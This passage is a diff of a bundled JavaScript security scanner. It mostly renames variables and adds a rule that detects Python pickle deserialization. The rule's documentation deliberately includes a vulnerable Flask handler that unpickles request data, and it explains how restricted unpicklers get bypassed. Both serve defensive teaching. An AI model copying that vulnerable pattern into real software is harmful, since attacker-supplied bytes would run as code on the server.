@@ -366,7 +366,7 @@ var require_scan = __commonJS({
       let code3;
       let token = { value: "", depth: 0, isGlob: false };
       const eos = () => index >= length;
-      const peek = () => str.charCodeAt(index + 1);
+      const peek2 = () => str.charCodeAt(index + 1);
       const advance = () => {
         prev = code3;
         return str.charCodeAt(++index);
@@ -441,7 +441,7 @@ var require_scan = __commonJS({
         }
         if (opts.noext !== true) {
           const isExtglobChar = code3 === CHAR_PLUS || code3 === CHAR_AT || code3 === CHAR_ASTERISK || code3 === CHAR_QUESTION_MARK || code3 === CHAR_EXCLAMATION_MARK;
-          if (isExtglobChar === true && peek() === CHAR_LEFT_PARENTHESES) {
+          if (isExtglobChar === true && peek2() === CHAR_LEFT_PARENTHESES) {
             isGlob = token.isGlob = true;
             isExtglob = token.isExtglob = true;
             finished = true;
@@ -662,7 +662,7 @@ var require_parse = __commonJS({
     var syntaxError = (type, char) => {
       return `Missing ${type}: "${char}" - use "\\\\${char}" to match literal characters`;
     };
-    var splitTopLevel = (input) => {
+    var splitTopLevel2 = (input) => {
       const parts2 = [];
       let bracket = 0;
       let paren = 0;
@@ -823,7 +823,7 @@ var require_parse = __commonJS({
         if (!match || match.type !== "*") {
           return;
         }
-        const branches = splitTopLevel(match.body).map((branch2) => branch2.trim());
+        const branches = splitTopLevel2(match.body).map((branch2) => branch2.trim());
         if (branches.length !== 1) {
           return;
         }
@@ -855,7 +855,7 @@ var require_parse = __commonJS({
         return { risky: false };
       }
       const max = typeof options.maxExtglobRecursion === "number" ? options.maxExtglobRecursion : constants.DEFAULT_MAX_EXTGLOB_RECURSION;
-      const branches = splitTopLevel(body2).map((branch) => branch.trim());
+      const branches = splitTopLevel2(body2).map((branch) => branch.trim());
       if (branches.length > 1) {
         if (branches.some((branch) => branch === "") || branches.some((branch) => /^[*?]+$/.test(branch)) || hasRepeatedCharPrefixOverlap(branches)) {
           return { risky: true };
@@ -953,7 +953,7 @@ var require_parse = __commonJS({
       let prev = bos;
       let value;
       const eos = () => state.index === len - 1;
-      const peek = state.peek = (n = 1) => input[state.index + n];
+      const peek2 = state.peek = (n = 1) => input[state.index + n];
       const advance = state.advance = () => input[++state.index] || "";
       const remaining = () => input.slice(state.index + 1);
       const consume = (value2 = "", num = 0) => {
@@ -966,7 +966,7 @@ var require_parse = __commonJS({
       };
       const negate = () => {
         let count = 1;
-        while (peek() === "!" && (peek(2) !== "(" || peek(3) === "?")) {
+        while (peek2() === "!" && (peek2(2) !== "(" || peek2(3) === "?")) {
           advance();
           state.start++;
           count++;
@@ -1030,16 +1030,16 @@ var require_parse = __commonJS({
         const analysis = analyzeRepeatedExtglob(body2, opts);
         if ((token.type === "plus" || token.type === "star") && analysis.risky) {
           const safeOutput = analysis.safeOutput ? (token.output ? "" : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput) : void 0;
-          const open3 = tokens[token.tokensIndex];
-          open3.type = "text";
-          open3.value = literal;
-          open3.output = safeOutput || utils.escapeRegex(literal);
+          const open = tokens[token.tokensIndex];
+          open.type = "text";
+          open.value = literal;
+          open.output = safeOutput || utils.escapeRegex(literal);
           for (let i2 = token.tokensIndex + 1; i2 < tokens.length; i2++) {
             tokens[i2].value = "";
             tokens[i2].output = "";
             delete tokens[i2].suffix;
           }
-          state.output = token.output + open3.output;
+          state.output = token.output + open.output;
           state.backtrack = true;
           push({ type: "paren", extglob: true, value, output: "" });
           decrement("parens");
@@ -1115,7 +1115,7 @@ var require_parse = __commonJS({
           continue;
         }
         if (value === "\\") {
-          const next = peek();
+          const next = peek2();
           if (next === "/" && opts.bash !== true) {
             continue;
           }
@@ -1168,7 +1168,7 @@ var require_parse = __commonJS({
               }
             }
           }
-          if (value === "[" && peek() !== ":" || value === "-" && peek() === "]") {
+          if (value === "[" && peek2() !== ":" || value === "-" && peek2() === "]") {
             value = `\\${value}`;
           }
           if (value === "]" && (prev.value === "[" || prev.value === "[^")) {
@@ -1259,15 +1259,15 @@ var require_parse = __commonJS({
         }
         if (value === "{" && opts.nobrace !== true) {
           increment("braces");
-          const open3 = {
+          const open = {
             type: "brace",
             value,
             output: "(",
             outputIndex: state.output.length,
             tokensIndex: state.tokens.length
           };
-          braces.push(open3);
-          push(open3);
+          braces.push(open);
+          push(open);
           continue;
         }
         if (value === "}") {
@@ -1355,12 +1355,12 @@ var require_parse = __commonJS({
         }
         if (value === "?") {
           const isGroup = prev && prev.value === "(";
-          if (!isGroup && opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+          if (!isGroup && opts.noextglob !== true && peek2() === "(" && peek2(2) !== "?") {
             extglobOpen("qmark", value);
             continue;
           }
           if (prev && prev.type === "paren") {
-            const next = peek();
+            const next = peek2();
             let output = value;
             if (prev.value === "(" && !/[!=<:]/.test(next) || next === "<" && !/<([!=]|\w+>)/.test(remaining())) {
               output = `\\${value}`;
@@ -1376,8 +1376,8 @@ var require_parse = __commonJS({
           continue;
         }
         if (value === "!") {
-          if (opts.noextglob !== true && peek() === "(") {
-            if (peek(2) !== "?" || !/[!=<:]/.test(peek(3))) {
+          if (opts.noextglob !== true && peek2() === "(") {
+            if (peek2(2) !== "?" || !/[!=<:]/.test(peek2(3))) {
               extglobOpen("negate", value);
               continue;
             }
@@ -1388,7 +1388,7 @@ var require_parse = __commonJS({
           }
         }
         if (value === "+") {
-          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+          if (opts.noextglob !== true && peek2() === "(" && peek2(2) !== "?") {
             extglobOpen("plus", value);
             continue;
           }
@@ -1404,7 +1404,7 @@ var require_parse = __commonJS({
           continue;
         }
         if (value === "@") {
-          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+          if (opts.noextglob !== true && peek2() === "(" && peek2(2) !== "?") {
             push({ type: "at", extglob: true, value, output: "" });
             continue;
           }
@@ -1543,7 +1543,7 @@ var require_parse = __commonJS({
             state.output += nodot;
             prev.output += nodot;
           }
-          if (peek() !== "*") {
+          if (peek2() !== "*") {
             state.output += ONE_CHAR;
             prev.output += ONE_CHAR;
           }
@@ -1813,7 +1813,7 @@ var require_ignore = __commonJS({
     }
     var UNDEFINED = void 0;
     var EMPTY = "";
-    var SPACE = " ";
+    var SPACE2 = " ";
     var ESCAPE = "\\";
     var REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/;
     var BOM = "\uFEFF";
@@ -1947,7 +1947,7 @@ var require_ignore = __commonJS({
           const escaped = pattern[index + 1];
           if (escaped === SLASH && index + 2 === length) {
             out2 += hold(NEVER_MATCH);
-          } else if (escaped === "*" || escaped === "[" || escaped === SPACE) {
+          } else if (escaped === "*" || escaped === "[" || escaped === SPACE2) {
             out2 += pattern.slice(index, index + 2);
           } else {
             out2 += hold(
@@ -1993,8 +1993,8 @@ var require_ignore = __commonJS({
         //   ever starts again inside it -- `(\\+?) ` did, which made a long run
         //   quadratic.
         /(\\+)( ?)/g,
-        (_, run3, space) => space ? run3.slice(0, run3.length - run3.length % 2) + SPACE : run3,
-        ESCAPE + SPACE
+        (_, run4, space) => space ? run4.slice(0, run4.length - run4.length % 2) + SPACE2 : run4,
+        ESCAPE + SPACE2
       ],
       // git's wildmatch() reads a run of two or more asterisks as one globstar
       //   whenever the run fills a path segment: it starts the pattern or follows
@@ -2178,10 +2178,10 @@ var require_ignore = __commonJS({
     };
     var REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/;
     var replaceTrailingDoublestar = () => "[\\s\\S]";
-    var separatorAfter = (run3, at) => {
+    var separatorAfter = (run4, at) => {
       let separator = EMPTY;
-      for (let index = at + 1; index < run3.length && !run3[index].wildcard; index++) {
-        separator += run3[index].single;
+      for (let index = at + 1; index < run4.length && !run4[index].wildcard; index++) {
+        separator += run4[index].single;
       }
       return separator;
     };
@@ -2241,26 +2241,26 @@ var require_ignore = __commonJS({
         }
       }
       let out2 = EMPTY;
-      let run3 = [];
+      let run4 = [];
       const flush = () => {
         let lastWildcard;
-        run3.forEach((token, at) => {
+        run4.forEach((token, at) => {
           if (token.wildcard) {
             lastWildcard = at;
           }
         });
-        run3.forEach((token, at) => {
+        run4.forEach((token, at) => {
           if (!token.wildcard) {
             out2 += token.single;
             return;
           }
-          out2 += at === lastWildcard ? WILDCARD : `(?:(?!${separatorAfter(run3, at)})[^\\/])*`;
+          out2 += at === lastWildcard ? WILDCARD : `(?:(?!${separatorAfter(run4, at)})[^\\/])*`;
         });
-        run3 = [];
+        run4 = [];
       };
       tokens.forEach((token) => {
         if (token.boundary === void 0) {
-          run3.push(token);
+          run4.push(token);
           return;
         }
         flush();
@@ -2385,7 +2385,7 @@ var require_ignore = __commonJS({
           lineEnd--;
         }
         end = lineEnd;
-        while (body2[end - 1] === SPACE) {
+        while (body2[end - 1] === SPACE2) {
           end--;
         }
         if (!stripLineEnd || body2[end - 1] !== "\n") {
@@ -2400,7 +2400,7 @@ var require_ignore = __commonJS({
       while (body2[end - backslashes - 1] === ESCAPE) {
         backslashes++;
       }
-      return backslashes % 2 ? body2.slice(0, end - 1) + SPACE : body2.slice(0, end);
+      return backslashes % 2 ? body2.slice(0, end - 1) + SPACE2 : body2.slice(0, end);
     };
     var createRule = (pattern, mark, ignoreCase, stripLineEnd, stripBOM) => {
       let body2 = stripBOM && pattern[0] === BOM ? pattern.slice(1) : pattern;
@@ -2413,7 +2413,7 @@ var require_ignore = __commonJS({
         body2 = body2.slice(1);
       }
       const last = body2[body2.length - 1];
-      if (last === SPACE || stripLineEnd && (last === "\r" || last === "\n")) {
+      if (last === SPACE2 || stripLineEnd && (last === "\r" || last === "\n")) {
         body2 = trimEnd(body2, stripLineEnd);
       }
       if (!body2 || hasTrailingBackslash(body2)) {
@@ -3009,7 +3009,7 @@ var require_light = __commonJS({
           }
           return this.Events.trigger("scheduled", { args: this.args, options: this.options });
         }
-        async doExecute(chained, clearGlobalState, run3, free) {
+        async doExecute(chained, clearGlobalState, run4, free) {
           var error, eventInfo, passed;
           if (this.retryCount === 0) {
             this._assertStatus("RUNNING");
@@ -3029,10 +3029,10 @@ var require_light = __commonJS({
             }
           } catch (error1) {
             error = error1;
-            return this._onFailure(error, eventInfo, clearGlobalState, run3, free);
+            return this._onFailure(error, eventInfo, clearGlobalState, run4, free);
           }
         }
-        doExpire(clearGlobalState, run3, free) {
+        doExpire(clearGlobalState, run4, free) {
           var error, eventInfo;
           if (this._states.jobStatus(this.options.id === "RUNNING")) {
             this._states.next(this.options.id);
@@ -3040,9 +3040,9 @@ var require_light = __commonJS({
           this._assertStatus("EXECUTING");
           eventInfo = { args: this.args, options: this.options, retryCount: this.retryCount };
           error = new BottleneckError$1(`This job timed out after ${this.options.expiration} ms.`);
-          return this._onFailure(error, eventInfo, clearGlobalState, run3, free);
+          return this._onFailure(error, eventInfo, clearGlobalState, run4, free);
         }
-        async _onFailure(error, eventInfo, clearGlobalState, run3, free) {
+        async _onFailure(error, eventInfo, clearGlobalState, run4, free) {
           var retry2, retryAfter;
           if (clearGlobalState()) {
             retry2 = await this.Events.trigger("failed", error, eventInfo);
@@ -3050,7 +3050,7 @@ var require_light = __commonJS({
               retryAfter = ~~retry2;
               this.Events.trigger("retry", `Retrying ${this.options.id} after ${retryAfter} ms`, eventInfo);
               this.retryCount++;
-              return run3(retryAfter);
+              return run4(retryAfter);
             } else {
               this.doDone(eventInfo);
               await free(this.options, eventInfo);
@@ -3688,17 +3688,17 @@ var require_light = __commonJS({
             }
           }
           _run(index, job, wait) {
-            var clearGlobalState, free, run3;
+            var clearGlobalState, free, run4;
             job.doRun();
             clearGlobalState = this._clearGlobalState.bind(this, index);
-            run3 = this._run.bind(this, index, job);
+            run4 = this._run.bind(this, index, job);
             free = this._free.bind(this, index, job);
             return this._scheduled[index] = {
               timeout: setTimeout(() => {
-                return job.doExecute(this._limiter, clearGlobalState, run3, free);
+                return job.doExecute(this._limiter, clearGlobalState, run4, free);
               }, wait),
               expiration: job.options.expiration != null ? setTimeout(function() {
-                return job.doExpire(clearGlobalState, run3, free);
+                return job.doExpire(clearGlobalState, run4, free);
               }, wait + job.options.expiration) : void 0,
               job
             };
@@ -4018,7 +4018,8 @@ async function writeOutput(text, file, io) {
 
 // src/project/scan.ts
 import { availableParallelism } from "node:os";
-import { readFile as readFile3, stat as stat2 } from "node:fs/promises";
+import { readFileSync as readFileSync3 } from "node:fs";
+import { stat } from "node:fs/promises";
 import { dirname as dirname3, join as join5, resolve as resolve4 } from "node:path";
 
 // src/core/order.ts
@@ -4032,37 +4033,184 @@ function cmp(a, b) {
   return a < b ? -1 : a > b ? 1 : 0;
 }
 
-// src/core/hash.ts
-function stableHash(text) {
-  let h1 = 3735928559;
-  let h2 = 1103547991;
-  for (let i2 = 0; i2 < text.length; i2++) {
-    const c = text.charCodeAt(i2);
-    h1 = Math.imul(h1 ^ c, 2654435761);
-    h2 = Math.imul(h2 ^ c, 1597334677);
-  }
-  h1 = Math.imul(h1 ^ h1 >>> 16, 2246822507) ^ Math.imul(h2 ^ h2 >>> 13, 3266489909);
-  h2 = Math.imul(h2 ^ h2 >>> 16, 2246822507) ^ Math.imul(h1 ^ h1 >>> 13, 3266489909);
-  return (h2 >>> 0).toString(16).padStart(8, "0") + (h1 >>> 0).toString(16).padStart(8, "0");
+// src/languages/python/prefilter.ts
+var COMPUTED_DYNAMIC_IMPORT = /(?:__import__|import_module)\s*\(\s*(?![rRuU]?(?:'[\w.]*'|"[\w.]*")\s*[,)])/;
+var EVERY_COMPUTED_DYNAMIC_IMPORT = new RegExp(COMPUTED_DYNAMIC_IMPORT.source, "g");
+function hasComputedDynamicImport(source) {
+  return (source.includes("__import__") || source.includes("import_module")) && COMPUTED_DYNAMIC_IMPORT.test(source);
+}
+function anchorOffsets(source, tokens) {
+  const out2 = tokens.offsetsIn(source);
+  if (!source.includes("__import__") && !source.includes("import_module")) return out2;
+  for (const m of source.matchAll(EVERY_COMPUTED_DYNAMIC_IMPORT)) out2.push(m.index);
+  return out2.sort((a, b) => a - b);
+}
+function prefilterTokens(rules) {
+  const all = [...new Set(rules.flatMap((r) => r.prefilter))];
+  return all.filter((t) => !all.some((other) => other !== t && t.includes(other)));
 }
 
-// src/core/suppression.ts
-var PATHFINDER = /pathfinder\s*:\s*ignore(?:\s*\[([^\]]*)\])?/i;
-var NOSEC = /\bnosec\b(?:\s*:?\s*((?:[A-Z]+[0-9A-Z-]*\d)(?:\s*,\s*[A-Z]+[0-9A-Z-]*\d)*))?/;
-function parseSuppression(comment) {
-  const p = PATHFINDER.exec(comment);
-  if (p) return { kind: "pathfinder", ids: splitIds(p[1]), text: comment.trim() };
-  const n = NOSEC.exec(comment);
-  if (n) return { kind: "nosec", ids: splitIds(n[1]), text: comment.trim() };
-  return void 0;
+// src/languages/python/semantic/module-aliases.ts
+var ALIASES = [
+  ["six.moves.cPickle", "pickle"],
+  ["six.moves.copyreg", "copyreg"],
+  ["six.moves.builtins", "builtins"],
+  ["future.moves.pickle", "pickle"],
+  ["cPickle", "pickle"],
+  ["_pickle", "pickle"],
+  ["pickle5.pickle", "pickle"],
+  ["pickle5", "pickle"],
+  ["__builtin__", "builtins"],
+  ["__builtins__", "builtins"],
+  ["copy_reg", "copyreg"],
+  ["_compat_pickle", "_compat_pickle"],
+  ["sklearn.externals.joblib", "joblib"],
+  ["dill._dill", "dill"],
+  ["dill.dill", "dill"],
+  ["cloudpickle.cloudpickle", "cloudpickle"],
+  ["cloudpickle.cloudpickle_fast", "cloudpickle"],
+  // Vendored copies of cloudpickle.
+  ["ray.cloudpickle", "cloudpickle"],
+  ["pyspark.cloudpickle", "cloudpickle"],
+  ["joblib.externals.cloudpickle", "cloudpickle"],
+  ["srsly.cloudpickle", "cloudpickle"],
+  ["joblib.numpy_pickle.load", "joblib.load"],
+  ["jsonpickle.unpickler.decode", "jsonpickle.decode"],
+  ["jsonpickle.unpickler.Unpickler", "jsonpickle.Unpickler"],
+  ["torch.serialization.load", "torch.load"],
+  ["torch.utils.model_zoo.load_url", "torch.hub.load_state_dict_from_url"],
+  ["torch.package.package_importer", "torch.package"],
+  ["torch.distributed.distributed_c10d", "torch.distributed"],
+  // Keras 3 is also reached as tf.keras / tf_keras; its public functions live in several modules.
+  ["tensorflow.keras", "keras"],
+  ["tensorflow.python.keras", "keras"],
+  ["tf_keras", "keras"],
+  ["keras.src.saving.saving_api", "keras.saving"],
+  ["keras.saving.saving_api", "keras.saving"],
+  ["keras.src.saving.serialization_lib", "keras.saving"],
+  ["numpy.lib.npyio.load", "numpy.load"],
+  ["pandas.io.pickle.read_pickle", "pandas.read_pickle"],
+  ["modin.pandas.read_pickle", "pandas.read_pickle"],
+  ["pandas.io.pytables.read_hdf", "pandas.read_hdf"],
+  ["pandas.io.pytables.HDFStore", "pandas.HDFStore"],
+  // PyYAML re-exports its loaders and functions at the package level.
+  ["yaml.loader", "yaml"],
+  ["yaml.cyaml", "yaml"],
+  ["yaml.__init__", "yaml"],
+  ["ruamel_yaml", "ruamel.yaml"],
+  ["ruamel.yaml.main", "ruamel.yaml"],
+  ["ruamel.yaml.loader", "ruamel.yaml"],
+  ["ruamel.yaml.cyaml", "ruamel.yaml"]
+];
+var MODULE_ALIASES = [...ALIASES].sort((a, b) => b[0].length - a[0].length);
+function canonicalName(qualifiedName) {
+  for (const [alias, canonical] of MODULE_ALIASES) {
+    if (qualifiedName === alias) return canonical;
+    if (qualifiedName.startsWith(alias) && qualifiedName.charCodeAt(alias.length) === 46) {
+      return canonical + qualifiedName.slice(alias.length);
+    }
+  }
+  return qualifiedName;
 }
-function suppresses(directive, ruleId2, banditIds) {
-  const hit = directive.ids.length === 0 || directive.ids.some((id) => id.toUpperCase() === ruleId2.toUpperCase() || banditIds.includes(id.toUpperCase()));
-  return hit ? { kind: directive.kind, justification: directive.text } : void 0;
+
+// src/rules/rule.ts
+function defineRule(rule) {
+  return rule;
 }
-function splitIds(list) {
-  return list ? list.split(",").map((s) => s.trim()).filter(Boolean) : [];
+function code(s) {
+  return "`" + s + "`";
 }
+
+// src/rules/python/shared-docs.ts
+var DESERIALIZATION_COMPLIANCE = [
+  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
+  { framework: "OWASP Top 10", control: "A08:2021 Software and Data Integrity Failures" },
+  { framework: "NIST SP 800-53", control: "SI-10 Information Input Validation" },
+  { framework: "PCI DSS v4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
+];
+var DESERIALIZATION_REFERENCES = [
+  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
+  { title: "OWASP Top 10 A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
+  { title: "OWASP Deserialization Cheat Sheet", url: "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html" },
+  { title: "Python documentation: pickle (security warning)", url: "https://docs.python.org/3/library/pickle.html" },
+  { title: "Bandit B301: pickle", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" }
+];
+
+// src/rules/python/PYTHON-LANG-SEC-040.ts
+var PICKLE_SINKS = ["pickle.loads", "pickle.load", "pickle.Unpickler", "pickle._loads", "pickle._load", "pickle._Unpickler"];
+function message(m) {
+  const spelled2 = m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
+  switch (m.via) {
+    case "subclass":
+      return `${code(m.subclass.name)} subclasses ${m.target} and unpickles its input` + (m.subclass.overridesFindClass ? "; overriding find_class narrows what loads but does not make untrusted data safe: restricted unpicklers are routinely bypassed" : "") + ". Use a data-only format for untrusted input.";
+    case "reference":
+      return `${spelled2} is passed as a callable: every value it is applied to is unpickled, which can run arbitrary code. Use a data-only format for untrusted input.`;
+    default:
+      return `${spelled2} deserializes with pickle, which runs whatever code the bytes describe. Never unpickle data that could come from an untrusted source; use a data-only format such as JSON.`;
+  }
+}
+var PYTHON_LANG_SEC_040_default = defineRule({
+  id: "PYTHON-LANG-SEC-040",
+  name: "Pickle Deserialization of Untrusted Data",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "pickle", "rce", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: ["B301"],
+  similar: ["PYTHON-LANG-SEC-044", "PYTHON-LANG-SEC-045", "PYTHON-LANG-SEC-046", "PYTHON-ML-SEC-003", "PYTHON-ML-SEC-005"],
+  prefilter: ["pickle", "Pickle"],
+  sinks: [{ call: PICKLE_SINKS, subclasses: true, references: true, message }],
+  docs: {
+    summary: "Detects pickle deserialization (`pickle.loads`, `pickle.load`, `pickle.Unpickler`), which executes arbitrary code from its input.",
+    description: 'Python\'s `pickle` format is a small stack-based program, not a data format. Loading a pickle runs that program: it can import any module and call any function with any arguments (`os.system`, `subprocess.Popen`, `eval`, ...). This rule reports every call that unpickles: `pickle.loads`, `pickle.load`, `pickle.Unpickler(...)` and its subclasses, and the same functions reached through `cPickle`, `_pickle`, `pickle5`, `six.moves.cPickle`, import aliases, `from pickle import *`, rebinding (`loader = pickle.loads`), `importlib.import_module("pickle")`, `__import__("pickle")`, `getattr(pickle, "loads")` and `functools.partial`. It also reports `pickle.loads` passed uncalled as a callback (`map(pickle.loads, blobs)`).',
+    securityImplications: "Anyone who can influence the bytes that reach the unpickler can run code with the privileges of the process: read secrets and credentials, move laterally, install a backdoor, or tamper with data. Typical entry points are request bodies, cookies and session stores, message queues, caches (Redis, memcached), files uploaded by users, and model or data files downloaded from the internet. There is no safe subset of pickle and no way to sanitize a payload before loading it; restricting `find_class` in an `Unpickler` subclass reduces the attack surface but has been bypassed repeatedly (gadgets in allowed modules, `getattr` chains, nested pickles).",
+    howToFix: "Do not unpickle data that crosses a trust boundary. Serialize with a data-only format instead: `json`, `msgpack`, Protocol Buffers, or `safetensors` for tensors and model weights. If pickle must stay for data the process produced itself, authenticate it before loading (an HMAC with a server-side key, verified with `hmac.compare_digest`), keep it out of reach of users, and treat the key as a secret.",
+    fixHint: "Use a data-only format (json, msgpack, safetensors) or verify an HMAC before unpickling data you produced yourself.",
+    vulnerableExample: [
+      "import pickle",
+      "from flask import request",
+      "",
+      '@app.route("/session", methods=["POST"])',
+      "def restore_session():",
+      "    session = pickle.loads(request.data)  # attacker-controlled bytes run as code",
+      '    return session["user"]'
+    ].join("\n"),
+    safeExample: [
+      "import json",
+      "from flask import request",
+      "",
+      '@app.route("/session", methods=["POST"])',
+      "def restore_session():",
+      "    session = json.loads(request.data)  # data only: no code runs",
+      '    return session["user"]'
+    ].join("\n"),
+    detectionScope: 'Every call of `pickle.loads`, `pickle.load`, `pickle.Unpickler` (and the pure-Python `_loads`, `_load`, `_Unpickler`) resolved through the file\'s imports and bindings: aliases, `from pickle import ...`, star imports, `cPickle`/`_pickle`/`pickle5`/`six.moves.cPickle`, `try`/`except ImportError` fallbacks, rebinding, `importlib.import_module`/`__import__` with constant module names (also built by concatenation), `getattr(module, "loads")`, `sys.modules["pickle"]`, `functools.partial`, instantiation of classes in the same file that derive from `pickle.Unpickler` (with or without a `find_class` override), and sink functions passed as callbacks. Names shadowed by parameters, locals or attributes are not reported; strings and comments never match. `pickle.dumps`/`pickle.dump` are not findings. Not covered: calls through wrappers defined in other modules (add them as custom sinks in the configuration) and modules named by run-time strings. Every call is reported regardless of where its data comes from, because pickle has no safe input in practice; suppress a reviewed call with `# pathfinder: ignore[PYTHON-LANG-SEC-040]`.',
+    references: DESERIALIZATION_REFERENCES,
+    faq: [
+      {
+        question: "The data comes from our own cache or database. Is this a false positive?",
+        answer: "Only if no attacker can ever write to that store. Caches, queues and databases are frequent pivot points: an injection or SSRF elsewhere becomes code execution here. Prefer a data-only format; otherwise sign the payload with an HMAC and verify it before loading, then suppress the finding with a justification."
+      },
+      {
+        question: "We subclassed Unpickler and restricted find_class. Why is it still reported?",
+        answer: "A restricted unpickler is a denylist or allowlist over a Turing-complete format. Published bypasses abuse allowed globals (`getattr`, `operator`, `functools`, numpy and torch helpers) and nested pickles. Keep the restriction as defence in depth, but do not feed it untrusted data."
+      },
+      {
+        question: "Is `pickle.dumps` dangerous?",
+        answer: "No. Serializing runs no attacker-controlled code; only loading does. `dump`/`dumps` are never reported."
+      },
+      {
+        question: "Does this rule also cover joblib, torch.load, numpy.load or dill?",
+        answer: "Those libraries unpickle under the hood and have their own rules (see similar rules) so that each can check its own safe options, such as `weights_only=True` or `allow_pickle=False`."
+      }
+    ]
+  }
+});
 
 // src/languages/python/syntax.ts
 function publicCursorOps(tree) {
@@ -4079,13 +4227,12 @@ function publicCursorOps(tree) {
     close: () => cursor.delete()
   };
 }
-function copyTree(tree, source, openCursor = publicCursorOps) {
+function copyTree(tree, source, openCursor = publicCursorOps, lines = new LineIndex(source)) {
   const language = tree.language;
   const typeNames = language.types;
   const fieldNames = language.fields;
   const named = typeNames.map((_, id) => id > 0 && language.nodeTypeIsNamed(id));
   const isNamed = (typeId) => typeId === ERROR_TYPE_ID ? true : named[typeId] ?? false;
-  const lines = new LineIndex(source);
   const mayHaveErrors = tree.rootNode.hasError;
   const cursor = openCursor(tree);
   const comments = [];
@@ -4194,205 +4341,6 @@ function isAncestor(ancestor, node) {
   return false;
 }
 
-// src/languages/python/calls.ts
-var CallArguments = class {
-  positional = [];
-  keywords = /* @__PURE__ */ new Map();
-  /** `*args` present: later positions are unknown. */
-  hasStarArgs = false;
-  /** `**kwargs` present: any keyword may be set. */
-  hasKwArgs = false;
-  constructor(call, source) {
-    const list = call ? childByField(call, "arguments") : void 0;
-    if (!list) return;
-    if (list.type === "generator_expression") {
-      this.positional.push(list);
-      return;
-    }
-    for (const arg of list.children) {
-      switch (arg.type) {
-        case "keyword_argument": {
-          const name2 = childByField(arg, "name");
-          const value = childByField(arg, "value");
-          if (name2 && value) this.keywords.set(source.slice(name2.start, name2.end), value);
-          break;
-        }
-        case "list_splat":
-          this.hasStarArgs = true;
-          break;
-        case "dictionary_splat":
-          this.hasKwArgs = true;
-          break;
-        case "comment":
-          break;
-        default:
-          if (!this.hasStarArgs) this.positional.push(arg);
-      }
-    }
-  }
-  /** The value bound to parameter `keyword` at `position` (0-based), like Ruff's `find_argument_value`. */
-  find(keyword, position) {
-    if (keyword !== void 0) {
-      const k = this.keywords.get(keyword);
-      if (k) return k;
-    }
-    return position !== void 0 ? this.positional[position] : void 0;
-  }
-  /** True when the parameter may be set without us seeing its value (`*args`/`**kwargs`). */
-  mayBeHidden(keyword, position) {
-    if (this.find(keyword, position)) return false;
-    return keyword !== void 0 && this.hasKwArgs || position !== void 0 && this.hasStarArgs;
-  }
-  /** Every argument value node, positional and keyword. */
-  values() {
-    return [...this.positional, ...this.keywords.values()];
-  }
-};
-
-// src/languages/python/semantic/builtins.ts
-var PYTHON_BUILTINS = /* @__PURE__ */ new Set([
-  "__build_class__",
-  "__import__",
-  "abs",
-  "aiter",
-  "all",
-  "anext",
-  "any",
-  "ascii",
-  "bin",
-  "bool",
-  "breakpoint",
-  "bytearray",
-  "bytes",
-  "callable",
-  "chr",
-  "classmethod",
-  "compile",
-  "complex",
-  "copyright",
-  "credits",
-  "delattr",
-  "dict",
-  "dir",
-  "divmod",
-  "enumerate",
-  "eval",
-  "exec",
-  "exit",
-  "filter",
-  "float",
-  "format",
-  "frozenset",
-  "getattr",
-  "globals",
-  "hasattr",
-  "hash",
-  "help",
-  "hex",
-  "id",
-  "input",
-  "int",
-  "isinstance",
-  "issubclass",
-  "iter",
-  "len",
-  "license",
-  "list",
-  "locals",
-  "map",
-  "max",
-  "memoryview",
-  "min",
-  "next",
-  "object",
-  "oct",
-  "open",
-  "ord",
-  "pow",
-  "print",
-  "property",
-  "quit",
-  "range",
-  "repr",
-  "reversed",
-  "round",
-  "set",
-  "setattr",
-  "slice",
-  "sorted",
-  "staticmethod",
-  "str",
-  "sum",
-  "super",
-  "tuple",
-  "type",
-  "vars",
-  "zip"
-]);
-
-// src/languages/python/semantic/module-aliases.ts
-var ALIASES = [
-  ["six.moves.cPickle", "pickle"],
-  ["six.moves.copyreg", "copyreg"],
-  ["six.moves.builtins", "builtins"],
-  ["future.moves.pickle", "pickle"],
-  ["cPickle", "pickle"],
-  ["_pickle", "pickle"],
-  ["pickle5.pickle", "pickle"],
-  ["pickle5", "pickle"],
-  ["__builtin__", "builtins"],
-  ["__builtins__", "builtins"],
-  ["copy_reg", "copyreg"],
-  ["_compat_pickle", "_compat_pickle"],
-  ["sklearn.externals.joblib", "joblib"],
-  ["dill._dill", "dill"],
-  ["dill.dill", "dill"],
-  ["cloudpickle.cloudpickle", "cloudpickle"],
-  ["cloudpickle.cloudpickle_fast", "cloudpickle"],
-  // Vendored copies of cloudpickle.
-  ["ray.cloudpickle", "cloudpickle"],
-  ["pyspark.cloudpickle", "cloudpickle"],
-  ["joblib.externals.cloudpickle", "cloudpickle"],
-  ["srsly.cloudpickle", "cloudpickle"],
-  ["joblib.numpy_pickle.load", "joblib.load"],
-  ["jsonpickle.unpickler.decode", "jsonpickle.decode"],
-  ["jsonpickle.unpickler.Unpickler", "jsonpickle.Unpickler"],
-  ["torch.serialization.load", "torch.load"],
-  ["torch.utils.model_zoo.load_url", "torch.hub.load_state_dict_from_url"],
-  ["torch.package.package_importer", "torch.package"],
-  ["torch.distributed.distributed_c10d", "torch.distributed"],
-  // Keras 3 is also reached as tf.keras / tf_keras; its public functions live in several modules.
-  ["tensorflow.keras", "keras"],
-  ["tensorflow.python.keras", "keras"],
-  ["tf_keras", "keras"],
-  ["keras.src.saving.saving_api", "keras.saving"],
